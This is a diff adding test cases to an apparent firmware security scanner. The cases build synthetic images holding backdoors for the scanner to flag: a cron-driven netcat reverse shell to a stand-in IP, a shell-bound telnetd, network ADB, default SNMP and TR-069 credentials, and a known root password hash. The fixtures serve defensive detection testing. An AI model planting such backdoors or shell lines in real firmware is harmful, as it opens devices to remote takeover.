@@ -32,6 +32,27 @@ func progOf(machine uint16, big bool, text string) string {
 	return "0755 " + string(b)
 }
 
+// moduleOf is a kernel module with one section of facts.
+func moduleOf(info string) string {
+	names := "\x00.modinfo\x00.shstrtab\x00"
+	b := []byte(prog("")[5:])[:52]
+	le.PutUint16(b[16:], 1)
+	data := len(b)
+	b = append(b, info...)
+	str := len(b)
+	b = append(b, names...)
+	for len(b)%4 != 0 {
+		b = append(b, 0)
+	}
+	le.PutUint32(b[32:], uint32(len(b)))
+	le.PutUint16(b[46:], 40)
+	le.PutUint16(b[48:], 3)
+	le.PutUint16(b[50:], 2)
+	b = append(b, make([]byte, 40)...)
+	b = append(b, words(le, 1, 1, 0, 0, uint32(data), uint32(len(info)), 0, 0, 1, 0)...)
+	return "0644 " + string(append(b, words(le, 10, 3, 0, 0, uint32(str), uint32(len(names)), 0, 0, 1, 0)...))
+}
+
 func makeTRX(parts ...[]byte) []byte {
 	h := make([]byte, 28)
 	copy(h, "HDR0")
@@ -154,6 +175,38 @@ func TestFurtherCases(t *testing.T) {
 		{"debug bridge over the network, by the init language", func(t *testing.T) []byte {
 			return ext(t, map[string]string{"system/bin/adbd": prog("adbd"), "system/bin/sh": prog("mksh"), "init.rc": "on boot\n    setprop service.adb.tcp.port 5555\n    start adbd\n\nservice adbd /system/bin/adbd\n    class core\n    disabled\n", "system/build.prop": "ro.adb.secure=0\nro.debuggable=1\nro.product.brand=Acme\n"})
 		}, []string{"daemon.adb-at-boot confirmed 5555"}, nil},
+		{"a shell that calls home from the timetable", func(t *testing.T) []byte {
+			return sq(t, withProc("etc/crontabs/root", "*/5 * * * * /usr/bin/nc 198.51.100.7 4444 -e /bin/sh\n", "usr/bin/nc", prog("nc"), "usr/sbin/crond", "-> ../../bin/busybox", "etc/init.d/cron", "0755 #!/bin/sh /etc/rc.common\nSTART=50\nstart() {\n crond -c /etc/crontabs\n}\n", "etc/rc.d/S50cron", "-> ../init.d/cron"), "-comp xz")
+		}, []string{"daemon.debug-at-boot confirmed 198.51.100.7"}, nil},
+		{"community and management server in settings of their own", func(t *testing.T) []byte {
+			return sq(t, withProc("etc/config/snmpd", "config community\n option community 'private'\n option mode 'rw'\nconfig rwcommunity\n option rwcommunity 'private'\n", "etc/defaults/nvram.conf", "tr069_acs_url=http://acs.example.invalid\ntr069_conn_req_username=admin\ntr069_conn_req_password=admin\n"), "-comp xz")
+		}, []string{"remote.snmp-default suspicious private", "remote.tr069-default suspicious admin"}, nil},
+		{"a program that starts telnet itself", func(t *testing.T) []byte {
+			return sq(t, withProc("usr/bin/appd", prog("/usr/sbin/telnetd -l /bin/sh -p 9527 &\x00"), "etc/init.d/app", "0755 #!/bin/sh /etc/rc.common\nSTART=50\nstart() {\n /usr/bin/appd\n}\n", "etc/rc.d/S50app", "-> ../init.d/app"), "-comp xz")
+		}, []string{"daemon.telnet-at-boot suspicious appd"}, nil},
+		{"a kernel image cut short", func(t *testing.T) []byte {
+			b := makeUImage(2, "Linux", bytes.Repeat([]byte("code and data "), 20_000))
+			return b[:len(b)/2]
+		}, []string{"state.truncated note"}, nil},
+		{"a maker's system under a label of another's", func(t *testing.T) []byte {
+			return sq(t, withProc("usr/bin/sonia", prog("/usr/bin/sonia\x00easy4ip\x00"), "etc/oem/oem.conf", "Brand=Acme Guard\nModel=AG-100\n"), "-comp xz")
+		}, []string{"maker.platform probable dahua", "maker.brand probable Acme Guard", "maker.conflict suspicious Acme Guard"}, nil},
+		{"a locked second root and a service's empty field", func(t *testing.T) []byte {
+			return sq(t, withProc("etc/passwd", "root:x:0:0:root:/root:/bin/ash\ntoor:x:0:0::/:/sbin/nologin\nftp:x:55:55::/:/bin/false\n", "etc/shadow", "root:!:0:0:99999:7:::\ntoor:!:0:0:::::\nftp::0:0:::::\n"), "-comp xz")
+		}, nil, []string{"account.uid0-twin", "account.empty-password"}},
+		{"an account table in a place of its own", func(t *testing.T) []byte {
+			return cram(t, withProc("mnt/mtd/Config/passwd", "root:$1$RYIwEiRA$d5iRRVQ5ZeRTrJwGjRy.B0:0:0:root:/:/bin/sh\n"))
+		}, []string{"account.known-hash confirmed mnt/mtd"}, nil},
+		{"a signed package that holds", func(t *testing.T) []byte {
+			return makeTar(tarEntry{"fw/kernel.img", "", '0', "kernel\n"}, tarEntry{"fw/SHA256SUMS", "", '0', sumOf("kernel\n") + "  kernel.img\n"}, tarEntry{"fw/SHA256SUMS.sig", "", '0', string(noise(8, 64))})
+		}, nil, []string{"integrity.unsigned", "integrity.hash-mismatch"}},
+		{"modules of another kernel", func(t *testing.T) []byte {
+			m := withProc()
+			for i, magic := range []string{"5.15.150 SMP mod_unload", "5.15.150 SMP mod_unload", "5.15.150 SMP mod_unload", "3.4.35 mod_unload ARMv7"} {
+				m["lib/modules/5.15.150/m"+string(rune('a'+i))+".ko"] = moduleOf("name=m" + string(rune('a'+i)) + "\x00license=GPL\x00vermagic=" + magic + "\x00")
+			}
+			return sq(t, m, "-comp xz")
+		}, []string{"module.unknown suspicious md.ko"}, nil},
 		{"a relay's library and its identifier", func(t *testing.T) []byte {
 			return sq(t, withProc("usr/bin/ipc", prog("IOTC_Device_Login\x00ABCD-123456-EFGHI\x00m1.iotcplatform.com")), "-comp gzip")
 		}, []string{"remote.relay suspicious ABCD-123456-EFGHI", "host.undocumented note ThroughTek"}, nil},
